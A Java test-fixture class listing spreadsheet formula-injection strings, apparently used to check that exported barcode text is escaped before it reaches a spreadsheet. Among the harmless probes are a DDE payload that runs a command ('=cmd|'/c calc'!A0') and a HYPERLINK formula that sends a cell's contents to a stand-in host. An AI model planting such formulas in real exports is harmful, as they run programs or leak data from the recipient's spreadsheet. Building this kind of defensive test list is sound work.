package org.packbench.exports;

import java.util.List;

/** What somebody might print on a barcode so that a colleague's spreadsheet runs it. */
final class Injections {
    static final List<String> TEXTS = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1,1)",
            "\t=1+1",
            "\r=1+1",
            "=cmd|'/c calc'!A0",
            "=HYPERLINK(\"http://example.invalid/\"&A1,\"click\")",
            "'=1+1",
            "''=1+1",
            "a;=1+1;b",
            "a\n=1+1",
            "a\t-1+1",
            "a,=1+1",
            "\"=1+1\"",
            "-5",
            "--",
            "it's 'quoted'",
            "'");

    private Injections() {}
}
